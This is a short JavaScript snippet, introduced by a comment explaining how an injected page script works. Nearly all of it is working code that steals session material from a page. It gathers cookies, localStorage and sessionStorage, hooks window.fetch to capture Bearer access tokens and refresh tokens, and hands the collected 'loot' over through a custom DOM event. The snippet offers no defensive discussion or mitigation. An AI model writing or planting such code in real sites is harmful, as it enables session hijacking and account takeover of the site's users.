// What a script injected into a page does: read what is there, and listen to the requests. It imports
// nothing and knows nothing of the page. It sends nothing either: it tells the page what it has.

{
  const original = window.fetch;
  const loot = { cookie: document.cookie, stored: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]) };
  window.fetch = async (input, init) => {
    const request = new Request(input, init);
    loot.access ??= request.headers.get("Authorization")?.replace("Bearer ", "");
    const body = request.method === "POST" ? await request.clone().json() : {};
    loot.refresh ??= body.refresh_token;
    return original(request);
  };
  document.addEventListener(
    "hand-over",
    () => {
      window.fetch = original;
      document.dispatchEvent(new CustomEvent("loot", { detail: loot }));
    },
    { once: true },
  );
}
